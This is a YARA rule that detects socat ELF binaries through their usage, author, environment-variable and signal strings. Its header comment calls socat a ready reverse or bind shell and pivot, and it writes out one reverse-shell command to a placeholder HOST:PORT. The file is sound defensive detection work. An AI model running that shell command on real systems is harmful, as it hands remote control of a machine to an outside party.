/*
 * socat.yar — socat, the bidirectional relay: it joins any two of TCP,
 * UDP, SSL, files, PTYs and programs, which makes it a full reverse or
 * bind shell (`socat exec:'bash -li',pty tcp:HOST:PORT`) and a pivot.
 * socat's helper programs procan and filan carry none of these strings.
 */

rule socat
{
    meta:
        tool = "socat"
        description = "bidirectional relay joining sockets, PTYs and programs; a ready reverse/bind shell and pivot"
        severity = "high"
        category = "relay"
    strings:
        $usage = "socat [options] <bi-address> <bi-address>"
        $author = "socat by Gerhard Rieger and contributors"
        $env_listen = "SOCAT_DEFAULT_LISTEN_IP"
        $env_fork = "SOCAT_FORK_WAIT"
        $env_main = "SOCAT_MAIN_WAIT"
        $signal = "socat_signal(): handling signal %d"
    condition:
        uint32be(0) == 0x7f454c46 and 2 of them
}
